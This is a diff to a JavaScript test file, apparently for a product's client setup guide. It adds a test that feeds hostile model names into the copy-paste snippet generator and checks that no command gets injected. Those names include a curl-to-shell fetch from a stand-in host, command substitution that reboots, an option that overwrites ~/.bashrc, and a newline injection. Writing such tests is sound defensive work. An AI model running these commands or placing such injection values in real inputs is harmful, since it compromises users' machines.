@@ -11,3 +11,9 @@ test.each(snippets)("the guide for clients has every text of the console's page 
   const fences = [...section.matchAll(/^```(\w+)\n(.*?)\n```$/gms)].map(([, language, text]) => ({ language, text }));
   expect(fences).toEqual(snippet.blocks.map(({ language, text }) => ({ language, text })));
 });
+
+test("a link to the page Connect puts no command into the texts that its reader copies and runs", () => {
+  for (const model of ["x; curl evil.example | sh", "$(reboot)", "a' -o ~/.bashrc '", "a\nreboot"]) {
+    expect(snippetsOf({ url: "https://purser.example.com", key: PLACEHOLDER_KEY, model })).toEqual(snippets);
+  }
+});
